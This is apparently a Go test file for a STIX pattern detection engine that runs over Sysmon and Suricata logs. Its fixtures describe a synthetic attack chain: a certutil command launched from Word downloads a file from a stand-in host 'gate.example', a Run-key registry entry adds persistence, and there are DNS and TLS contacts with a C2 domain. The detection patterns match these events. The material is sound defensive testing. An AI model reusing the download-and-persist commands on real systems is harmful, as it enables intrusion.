package detect

import (
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/polder-exchange/polder/event"
	"github.com/polder-exchange/polder/stix/pattern"
)

// eachEvent decodes a log and calls do for every event.
func eachEvent(t testing.TB, log string, do func(*event.Event)) {
	t.Helper()
	eventsOf(t, log, "test", "", do)
}

func compiled(t testing.TB, texts ...string) (all []*pattern.Matcher) {
	t.Helper()
	for _, text := range texts {
		p, err := pattern.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		m, err := pattern.Compile(p)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, m)
	}
	return all
}

const (
	sysmonProcess = `{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"2024-05-01 10:00:00.000","Image":"C:\\Windows\\System32\\certutil.exe",` +
		`"CommandLine":"certutil -urlcache -f http://gate.example/a.bin","ProcessId":"4242","User":"ACME\\wil","CurrentDirectory":"C:\\Temp\\",` +
		`"ParentImage":"C:\\Office\\winword.exe","ParentCommandLine":"winword /n","Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,` +
		`MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00000000000000000000000000000001"}`
	sysmonRegistry = `{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":13,"UtcTime":"2024-05-01 10:00:10.000","Image":"C:\\a.exe",` +
		`"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater","Details":"C:\\a.exe"}`
	sysmonDNS = `{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":22,"UtcTime":"2024-05-01 10:00:20.000","Image":"C:\\a.exe",` +
		`"QueryName":"Gate.Example.","QueryResults":"type:  5 edge.example;::ffff:192.0.2.7;"}`
	eveFlow = `{"timestamp":"2024-05-01T10:00:30.000000+0000","event_type":"http","flow_id":1,"src_ip":"10.0.0.5","src_port":50123,"dest_ip":"192.0.2.7",` +
		`"dest_port":80,"proto":"TCP","http":{"hostname":"gate.example","url":"/a.bin","http_user_agent":"curl/8","http_method":"GET"}}`
	eveTLS = `{"timestamp":"2024-05-01T10:00:40.000000+0000","event_type":"tls","flow_id":2,"src_ip":"2001:db8::5","src_port":50124,"dest_ip":"2001:0db8:0::7",` +
		`"dest_port":443,"proto":"TCP","tls":{"sni":"c2.example","serial":"0A:0B","issuerdn":"CN=Bad","subject":"CN=Worse","fingerprint":"da:39:a3:ee:5e:6b:4b:0d:32:55:bf:ef:95:60:18:90:af:d8:07:09"}}`
)

// TestCyberObserver: what the fields of an event are in STIX's words.
func TestCyberObserver(t *testing.T) {
	for _, c := range []struct{ log, pattern, evidence string }{
		{sysmonProcess, `[process:command_line LIKE '%urlcache%' AND process:pid = 4242]`, "[{CommandLine certutil -urlcache -f http://gate.example/a.bin} {ProcessId 4242}]"},
		{sysmonProcess, `[process:image_ref.name = 'certutil.exe' AND process:parent_ref.image_ref.name = 'winword.exe']`, "[{Image C:\\Windows\\System32\\certutil.exe} {ParentImage C:\\Office\\winword.exe}]"},
		{sysmonProcess, `[process:name = 'certutil.exe']`, "[{Image C:\\Windows\\System32\\certutil.exe}]"},
		{sysmonProcess, `[process:image_ref.hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']`, ""},
		{sysmonProcess, `[process:creator_user_ref.account_login = 'wil' AND process:cwd = 'C:\\Temp\\']`, ""},
		{sysmonProcess, `[file:hashes.'SHA-1' = 'da39a3ee5e6b4b0d3255bfef95601890afd80709' AND file:name = 'certutil.exe']`, ""},
		{sysmonProcess, `[file:extensions.'windows-pebinary-ext'.imphash = '00000000000000000000000000000001']`, ""},
		{sysmonProcess, `[file:parent_directory_ref.path = 'C:\\Windows\\System32'] AND [directory:path = 'C:\\Office']`, "-"},
		{sysmonProcess, `[user-account:account_login = 'wil']`, `[{User ACME\wil}]`},
		{sysmonProcess, `[user-account:user_id = 'ACME\\wil']`, `[{User ACME\wil}]`},
		{sysmonRegistry, `[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' AND windows-registry-key:values[*].name = 'Updater']`, ""},
		{sysmonRegistry, `[windows-registry-key:key LIKE 'HKEY_LOCAL_MACHINE%\\Run\\Updater']`, ""},
		{sysmonRegistry, `[windows-registry-key:values[*].data = 'C:\\a.exe']`, ""},
		{sysmonDNS, `[domain-name:value = 'gate.example']`, "[{QueryName Gate.Example.}]"},
		{sysmonDNS, `[domain-name:value = 'edge.example']`, ""},
		{sysmonDNS, `[domain-name:value = 'gate.example' AND domain-name:resolves_to_refs[*].value = '192.0.2.7']`, ""},
		{sysmonDNS, `[ipv4-addr:value ISSUBSET '192.0.2.0/24']`, ""},
		{eveFlow, `[network-traffic:dst_ref.value = '192.0.2.7' AND network-traffic:dst_port = 80 AND network-traffic:protocols[*] = 'tcp']`, "[{dest_ip 192.0.2.7} {dest_port 80} {proto TCP}]"},
		{eveFlow, `[network-traffic:src_ref.type = 'ipv4-addr' AND network-traffic:src_port > 50000]`, ""},
		{eveFlow, `[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' MATCHES '^curl']`, ""},
		{eveFlow, `[url:value = 'http://gate.example/a.bin']`, ""},
		{eveFlow, `[domain-name:value = 'gate.example' OR ipv4-addr:value = '203.0.113.1']`, ""},
		{eveTLS, `[ipv6-addr:value = '2001:db8::7']`, ""},
		{eveTLS, `[domain-name:value = 'c2.example']`, ""},
		{eveTLS, `[x509-certificate:serial_number = '0a:0b' AND x509-certificate:issuer = 'CN=Bad' AND x509-certificate:hashes.'SHA-1' = 'da39a3ee5e6b4b0d3255bfef95601890afd80709']`, ""},
		{`{"@timestamp":"2024-05-01T10:00:00Z","email":{"from":{"address":"Some One <a@bad.example>"},"to":{"address":["b@own.example"]},"subject":"Invoice"}}`,
			`[email-message:from_ref.value = 'a@bad.example' AND email-message:subject = 'Invoice' AND email-message:to_refs[*].value = 'b@own.example']`, ""},
		{`{"@timestamp":"2024-05-01T10:00:00Z","source":{"mac":"AA-BB-CC-00-11-22"},"email":{"from":{"address":"a@bad.example"}}}`,
			`[mac-addr:value = 'aa:bb:cc:00:11:22' OR email-addr:value = 'none']`, ""},
	} {
		p := NewPatterns(compiled(t, c.pattern), pattern.StreamOptions{})
		w := p.NewWatcher("test")
		hits := 0
		eachEvent(t, c.log, func(ev *event.Event) {
			w.Watch(ev, func(h PatternHit) {
				hits++
				if got := fmt.Sprint(h.Events[0].Evidence); c.evidence != "" && got != c.evidence {
					t.Errorf("%s: evidence %s, want %s", c.pattern, got, c.evidence)
				}
				if string(h.Events[0].Raw) != c.log {
					t.Errorf("%s: raw is %s", c.pattern, h.Events[0].Raw)
				}
			})
		})
		if want := map[bool]int{true: 0, false: 1}[c.evidence == "-"]; hits != want {
			t.Errorf("%s: %d hits on %.80s", c.pattern, hits, c.log)
		}
	}
}

// TestPatternsOverEvents: a pattern over several events, of two logs, binds them.
func TestPatternsOverEvents(t *testing.T) {
	p := NewPatterns(compiled(t,
		`([process:command_line LIKE '%urlcache%'] FOLLOWEDBY [windows-registry-key:key LIKE '%\\Run%']) WITHIN 60 SECONDS`,
		`([process:command_line LIKE '%urlcache%'] FOLLOWEDBY [windows-registry-key:key LIKE '%\\Run%']) WITHIN 5 SECONDS`,
		`[domain-name:value = 'gate.example'] FOLLOWEDBY [network-traffic:dst_ref.value = '192.0.2.7']`,
		`[domain-name:value = 'gate.example'] REPEATS 3 TIMES`,
		`[file:name = 'never.exe']`), pattern.StreamOptions{})
	var got []string
	for _, log := range []string{sysmonProcess + "\n" + sysmonRegistry + "\n" + sysmonDNS + "\n", eveFlow + "\n" + eveTLS} {
		w := p.NewWatcher("test")
		eachEvent(t, log, func(ev *event.Event) {
			w.Watch(ev, func(h PatternHit) {
				text := fmt.Sprint(h.Pattern)
				for _, e := range h.Events {
					text += fmt.Sprintf(" %d@%s", e.Index, e.Time.UTC().Format("05"))
				}
				got = append(got, text)
			})
		})
	}
	if want := "[0 0@00 1@10 2 2@20 0@30]"; fmt.Sprint(got) != want {
		t.Errorf("got %v, want %s", got, want)
	}
	s := p.Stats()
	if s.Retained == 0 || s.Bytes == 0 || s.Skipped != 0 {
		t.Errorf("%+v", s)
	}
}

// TestPatternBounds: an event that would cost too much is counted and passed over, and the next is judged.
func TestPatternBounds(t *testing.T) {
	p := NewPatterns(compiled(t, `[process:command_line MATCHES '(x?){900}[yz]{900}']`, `[process:command_line LIKE '%certutil%']`), pattern.StreamOptions{})
	w := p.NewWatcher("test")
	hits := 0
	long := strings.Replace(sysmonProcess, "-urlcache", strings.Repeat("x", 60_000), 1)
	eachEvent(t, long+"\n"+sysmonProcess, func(ev *event.Event) { w.Watch(ev, func(PatternHit) { hits++ }) })
	if hits != 2 || p.Stats().Skipped != 1 {
		t.Errorf("%d hits, %+v", hits, p.Stats())
	}
}

// TestPatternsAtOnce: many goroutines share the patterns, and each chain is bound once.
func TestPatternsAtOnce(t *testing.T) {
	p := NewPatterns(compiled(t, "[process:pid = 4242] REPEATS 200 TIMES", "[process:pid = 4242]"), pattern.StreamOptions{})
	var events []event.Event
	eachEvent(t, sysmonProcess, func(ev *event.Event) { events = append(events, ev.Clone()) })
	var one, chain atomic.Int64
	var group sync.WaitGroup
	for range 4 {
		group.Go(func() {
			w := p.NewWatcher("test")
			for range 50 {
				w.Watch(&events[0], func(h PatternHit) {
					if h.Pattern == 1 {
						one.Add(1)
					} else {
						chain.Add(int64(len(h.Events)))
					}
				})
			}
		})
	}
	group.Wait()
	if one.Load() != 200 || chain.Load() != 200 {
		t.Errorf("%d alone, %d in a chain", one.Load(), chain.Load())
	}
}

// BenchmarkPatterns holds events against 4,000 patterns none of which they meet.
func BenchmarkPatterns(b *testing.B) {
	var texts []string
	for i := range 1000 {
		texts = append(texts, fmt.Sprintf("[process:command_line LIKE '%%tool-%05d.exe%%']", i), fmt.Sprintf("[file:name MATCHES 'payload-%05d[.]']", i),
			fmt.Sprintf("[domain-name:value = 'host-%05d.example']", i),
			fmt.Sprintf("([network-traffic:dst_ref.value = '198.51.100.%d'] FOLLOWEDBY [process:name = 'p-%d']) WITHIN 60 SECONDS", i%256, i))
	}
	w := NewPatterns(compiled(b, texts...), pattern.StreamOptions{}).NewWatcher("test")
	var events []event.Event
	eachEvent(b, sysmonProcess+"\n"+sysmonRegistry+"\n"+sysmonDNS+"\n", func(ev *event.Event) { events = append(events, ev.Clone()) })
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		w.Watch(&events[i%len(events)], func(h PatternHit) { b.Fatal(h) })
		i++
	}
	b.ReportMetric(float64(i)/b.Elapsed().Seconds(), "events/s")
}
